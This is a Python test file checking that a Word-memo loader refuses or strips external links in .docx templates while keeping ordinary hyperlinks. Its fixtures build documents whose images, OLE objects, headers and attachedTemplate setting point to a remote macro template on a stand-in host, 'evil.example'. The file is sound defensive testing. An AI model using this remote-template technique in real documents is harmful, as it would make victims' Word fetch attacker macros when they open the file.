"""Word templates that have the memo load something from elsewhere when it is opened."""

import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from evenhand.exceptions import InvalidInputError
from evenhand.report.memo import open_word

ELSEWHERE = "https://evil.example/house.dotm"


@pytest.fixture
def template(tmp_path):
    """A document, and where to save it with a link."""
    return docx.Document(), tmp_path / "house.docx"


@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame"])
def test_what_a_template_loads_from_elsewhere_is_refused(template, kind):
    document, path = template
    document.part.relate_to(ELSEWHERE, RELATIONSHIP_TYPE.IMAGE.replace("image", kind), is_external=True)
    document.save(path)
    with pytest.raises(InvalidInputError, match=rf"loads '{ELSEWHERE}' whenever it is opened"):
        open_word(path)


def test_links_of_headers_are_found(template):
    document, path = template
    header = document.sections[0].header
    header.paragraphs[0].text = "House"
    header.part.relate_to(ELSEWHERE, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    document.save(path)
    with pytest.raises(InvalidInputError, match="loads"):
        open_word(path)


def test_the_memo_does_not_load_the_template_of_its_template(template, tmp_path):
    """Word fetches the template of a document, with its macros, from wherever the document says."""
    document, path = template
    link = OxmlElement("w:attachedTemplate")
    settings = document.part._settings_part
    kind = RELATIONSHIP_TYPE.IMAGE.replace("image", "attachedTemplate")
    link.set(qn("r:id"), settings.relate_to(ELSEWHERE, kind, is_external=True))
    document.settings.element.append(link)
    document.save(path)
    with zipfile.ZipFile(path) as saved:
        assert any(ELSEWHERE.encode() in saved.read(name) for name in saved.namelist())
    open_word(path).word.save(tmp_path / "memo.docx")
    with zipfile.ZipFile(tmp_path / "memo.docx") as memo:
        assert not any(ELSEWHERE.encode() in memo.read(name) for name in memo.namelist())
        assert b"attachedTemplate" not in memo.read("word/settings.xml")


def test_hyperlinks_of_a_template_stay(template):
    document, path = template
    document.part.relate_to("https://bank.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.save(path)
    links = open_word(path).word.part.rels.values()
    assert "https://bank.example" in [link.target_ref for link in links if link.is_external]
